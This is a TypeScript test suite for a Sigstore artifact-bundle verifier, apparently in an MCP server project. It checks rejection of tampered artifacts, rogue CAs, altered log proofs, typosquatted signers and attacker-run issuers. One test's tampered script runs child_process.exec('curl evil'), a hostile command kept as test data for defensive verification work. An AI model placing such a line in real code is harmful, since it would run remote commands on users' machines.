import { describe, test, before } from 'node:test';
import assert from 'node:assert/strict';
import { createHash, generateKeyPairSync, sign, verify } from 'node:crypto';
import { initializeTSA } from '@sigstore/mock';
import { ARTIFACT, GITHUB, WORKFLOW, b64, ecKeyPair, keyedBundle, keylessBundle, newInstance, pem, spki, trustedRootOf, type Instance, type TSA } from '../../test/helpers/sigstore.js';
import { bundleFromJSON } from '@sigstore/bundle';
import { TrustedRoot } from '@sigstore/protobuf-specs';
import { Verifier, toSignedEntity, toTrustMaterial } from '@sigstore/verify';
import { verifyArtifactBundle, type SigstorePolicy } from './sigstore.js';

const keyless: SigstorePolicy = { identity: WORKFLOW, issuer: GITHUB };

async function refusal(promise: Promise<unknown>, code: string, ...phrases: RegExp[]): Promise<void> {
  await assert.rejects(promise, (err: Error & { code?: string }) => {
    assert.equal(err.name, 'ArtifactSignatureError');
    assert.equal(err.code, code, err.message);
    for (const phrase of phrases) assert.match(err.message, phrase);
    return true;
  });
}

describe('verifyArtifactBundle (offline, against a trusted root from the config)', () => {
  let sigstore: Instance;
  let trustedRoot: object;
  let bundle: object;
  before(async () => {
    sigstore = await newInstance();
    trustedRoot = trustedRootOf(sigstore);
    bundle = await keylessBundle(sigstore, ARTIFACT);
  });

  test('accepts a keyless bundle from the expected workflow and reports signer, log index and time', async () => {
    const result = await verifyArtifactBundle({ artifact: ARTIFACT, bundle, trustedRoot, policy: keyless });
    assert.equal(result.signer, WORKFLOW);
    assert.match(result.logIndex ?? '', /^\d+$/);
    assert.ok(result.integratedTime && Math.abs(result.integratedTime.getTime() - Date.now()) < 60_000);
  });

  test('accepts an identity given as a /regex/ matched against the whole SAN', async () => {
    const policy = { ...keyless, identity: '/https://github\\.com/acme/weather-mcp/\\.github/workflows/release\\.yml@refs/tags/v.*/' };
    assert.equal((await verifyArtifactBundle({ artifact: ARTIFACT, bundle, trustedRoot, policy })).signer, WORKFLOW);
    await refusal(
      verifyArtifactBundle({ artifact: ARTIFACT, bundle, trustedRoot, policy: { ...keyless, identity: '/https://github\\.com/acme/' } }),
      'SIGSTORE_SIGNER_MISMATCH',
    );
    await refusal(verifyArtifactBundle({ artifact: ARTIFACT, bundle, trustedRoot, policy: { ...keyless, identity: '/release(/' } }), 'SIGSTORE_POLICY_INCOMPLETE', /not a valid regular expression/);
  });

  test('refuses a tampered artifact (a server script changed after signing)', async () => {
    const tampered = new TextEncoder().encode('#!/usr/bin/env node\nrequire("child_process").exec("curl evil");\n');
    await refusal(verifyArtifactBundle({ artifact: tampered, bundle, trustedRoot, policy: keyless }), 'SIGSTORE_VERIFICATION_FAILED', /signature verification failed/, /artifact may have changed/);
  });

  test('refuses a bundle whose certificate comes from a CA the trusted root does not list', async () => {
    const rogue = await newInstance();
    const forged = await keylessBundle({ ...rogue, tlog: sigstore.tlog }, ARTIFACT);
    await refusal(verifyArtifactBundle({ artifact: ARTIFACT, bundle: forged, trustedRoot, policy: keyless }), 'SIGSTORE_VERIFICATION_FAILED', /certificate chain/);
  });

  test('refuses a bundle logged in a transparency log the trusted root does not list', async () => {
    const rogue = await newInstance();
    const unlogged = await keylessBundle({ ...sigstore, tlog: rogue.tlog }, ARTIFACT);
    await refusal(verifyArtifactBundle({ artifact: ARTIFACT, bundle: unlogged, trustedRoot, policy: keyless }), 'SIGSTORE_VERIFICATION_FAILED', /inclusion promise could not be verified/);
  });

  test('refuses a bundle whose Merkle inclusion proof does not lead to the signed checkpoint, even with a valid signed entry timestamp', async () => {
    const altered = structuredClone(bundle) as { verificationMaterial: { tlogEntries: [{ inclusionProof: { hashes: string[]; treeSize: string } }] } };
    Object.assign(altered.verificationMaterial.tlogEntries[0].inclusionProof, { hashes: [b64(Buffer.alloc(32, 7))], treeSize: '2' });
    await refusal(verifyArtifactBundle({ artifact: ARTIFACT, bundle: altered, trustedRoot, policy: keyless }), 'SIGSTORE_VERIFICATION_FAILED', /hash count/);
  });

  test('refuses a bundle with no transparency-log entry (threshold: one proven entry)', async () => {
    const unlogged = structuredClone(bundle) as { verificationMaterial: { tlogEntries: unknown[] } };
    unlogged.verificationMaterial.tlogEntries = [];
    await refusal(verifyArtifactBundle({ artifact: ARTIFACT, bundle: unlogged, trustedRoot, policy: keyless }), 'SIGSTORE_VERIFICATION_FAILED', /expected 1 timestamps, got 0/);
  });

  test('accepts a log entry with only a Merkle inclusion proof (Rekor v2 style) when a trusted TSA timestamped the signature', async () => {
    type Entry = { inclusionPromise?: unknown };
    type Editable = { verificationMaterial: { tlogEntries: Entry[]; timestampVerificationData: { rfc3161Timestamps: { signedTimestamp: string }[] } }; messageSignature: { signature: string } };
    const proofOnly = structuredClone(bundle) as Editable;
    delete proofOnly.verificationMaterial.tlogEntries[0]!.inclusionPromise;
    await refusal(verifyArtifactBundle({ artifact: ARTIFACT, bundle: proofOnly, trustedRoot, policy: keyless }), 'SIGSTORE_VERIFICATION_FAILED', /expected 1 timestamps, got 0/);

    // A whole-second clock: @sigstore/core 3.x reads fractional seconds only as three digits, and the mock TSA
    // writes e.g. ".5" for 500 ms. The next second is still inside the signing certificate's ten minutes.
    const tsa = await initializeTSA(ecKeyPair(), new Date(Math.ceil(Date.now() / 1000) * 1000));
    const signature = Buffer.from(proofOnly.messageSignature.signature, 'base64');
    const timestamp = await tsa.timestamp({ artifactHash: createHash('sha256').update(signature).digest(), hashAlgorithmOID: '2.16.840.1.101.3.4.2.1', nonce: 42, policyOID: '1.3.6.1.4.1.57264.2', certReq: true });
    proofOnly.verificationMaterial.timestampVerificationData.rfc3161Timestamps = [{ signedTimestamp: b64(timestamp) }];
    const result = await verifyArtifactBundle({ artifact: ARTIFACT, bundle: proofOnly, trustedRoot: trustedRootOf(sigstore, tsa), policy: keyless });
    assert.equal(result.signer, WORKFLOW);
    assert.equal(result.integratedTime, undefined, 'no signed entry timestamp, so no time the log vouches for');
  });

  test('refuses a signer with another identity or the same identity from another issuer', async () => {
    const typosquatter = await keylessBundle(sigstore, ARTIFACT, { san: WORKFLOW.replace('acme', 'acme-mcp'), issuer: GITHUB });
    await refusal(
      verifyArtifactBundle({ artifact: ARTIFACT, bundle: typosquatter, trustedRoot, policy: keyless }),
      'SIGSTORE_SIGNER_MISMATCH',
      /signed by "https:\/\/github\.com\/acme-mcp\//,
      /update the policy's identity/,
    );
    const otherIssuer = await keylessBundle(sigstore, ARTIFACT, { san: WORKFLOW, issuer: 'https://idp.attacker.test' });
    await refusal(verifyArtifactBundle({ artifact: ARTIFACT, bundle: otherIssuer, trustedRoot, policy: keyless }), 'SIGSTORE_SIGNER_MISMATCH', /idp\.attacker\.test/);
  });

  test('refuses to verify a keyless bundle without both identity and issuer in the policy', async () => {
    await refusal(verifyArtifactBundle({ artifact: ARTIFACT, bundle, trustedRoot, policy: {} }), 'SIGSTORE_POLICY_INCOMPLETE', /identity and issuer/);
    await refusal(verifyArtifactBundle({ artifact: ARTIFACT, bundle, trustedRoot, policy: { identity: WORKFLOW } }), 'SIGSTORE_POLICY_INCOMPLETE');
  });

  test('explains a malformed bundle or trusted root', async () => {
    await refusal(verifyArtifactBundle({ artifact: ARTIFACT, bundle: { mediaType: 'nope' }, trustedRoot, policy: keyless }), 'SIGSTORE_BUNDLE_MALFORMED', /mediaType/, /cosign sign-blob --bundle/);
    await refusal(verifyArtifactBundle({ artifact: ARTIFACT, bundle: 'not json', trustedRoot, policy: keyless }), 'SIGSTORE_BUNDLE_MALFORMED');
    await refusal(verifyArtifactBundle({ artifact: ARTIFACT, bundle, trustedRoot: { tlogs: [] }, policy: keyless }), 'SIGSTORE_TRUSTED_ROOT_MALFORMED', /trusted_root\.json/);
  });

  test('refuses a DSSE attestation bundle: it does not bind the artifact bytes', async () => {
    const { messageSignature: _, ...rest } = bundle as { messageSignature: unknown };
    const dsse = { ...rest, dsseEnvelope: { payload: b64(Buffer.from('{}')), payloadType: 'application/vnd.in-toto+json', signatures: [{ sig: b64(Buffer.alloc(64)), keyid: '' }] } };
    await refusal(verifyArtifactBundle({ artifact: ARTIFACT, bundle: dsse, trustedRoot, policy: keyless }), 'SIGSTORE_BUNDLE_UNSUPPORTED', /DSSE/);
  });

  describe('with a long-lived public key instead of a certificate', () => {
    test('accepts a bundle signed by the configured ECDSA key', async () => {
      const release = ecKeyPair();
      const keyed = await keyedBundle(sigstore, ARTIFACT, release);
      const result = await verifyArtifactBundle({ artifact: ARTIFACT, bundle: keyed, trustedRoot, policy: { publicKey: pem(release.publicKey) } });
      assert.equal(result.signer, `key:sha256/${createHash('sha256').update(spki(release.publicKey)).digest('base64')}`);
    });

    test('refuses a bundle signed by another key, and a keyed bundle when the policy names no key', async () => {
      const keyed = await keyedBundle(sigstore, ARTIFACT, ecKeyPair());
      await refusal(verifyArtifactBundle({ artifact: ARTIFACT, bundle: keyed, trustedRoot, policy: { publicKey: pem(ecKeyPair().publicKey) } }), 'SIGSTORE_VERIFICATION_FAILED', /signature verification failed/);
      await refusal(verifyArtifactBundle({ artifact: ARTIFACT, bundle: keyed, trustedRoot, policy: keyless }), 'SIGSTORE_POLICY_INCOMPLETE', /publicKey/);
    });

    test('refuses a keyless bundle when the policy expects a key', async () => {
      await refusal(verifyArtifactBundle({ artifact: ARTIFACT, bundle, trustedRoot, policy: { publicKey: pem(ecKeyPair().publicKey) } }), 'SIGSTORE_SIGNER_MISMATCH', /carries a certificate/);
    });

    test('refuses a genuine Ed25519 message signature with a clear reason instead of "bad signature"', async () => {
      const ed = generateKeyPairSync('ed25519');
      const keyed = await keyedBundle(sigstore, ARTIFACT, ed);
      const signature = Buffer.from(keyed.messageSignature.signature, 'base64');
      assert.ok(verify(null, ARTIFACT, ed.publicKey, signature), 'the signature itself is valid');
      await refusal(
        verifyArtifactBundle({ artifact: ARTIFACT, bundle: keyed, trustedRoot, policy: { publicKey: pem(ed.publicKey) } }),
        'SIGSTORE_BUNDLE_UNSUPPORTED',
        /ed25519/,
        /ECDSA P-256/,
      );
    });

    test('the refusal is still needed: @sigstore/verify 3.x cannot verify that valid Ed25519 bundle', async () => {
      // When this starts to pass verification, the library is fixed: support Ed25519 and drop the refusal.
      const ed = generateKeyPairSync('ed25519');
      const keyed = await keyedBundle(sigstore, ARTIFACT, ed);
      const trust = toTrustMaterial(TrustedRoot.fromJSON(trustedRoot), () => ({ publicKey: ed.publicKey, validFor: () => true }));
      assert.throws(() => new Verifier(trust).verify(toSignedEntity(bundleFromJSON(keyed), Buffer.from(ARTIFACT))), { code: 'SIGNATURE_ERROR' });
    });
  });
});
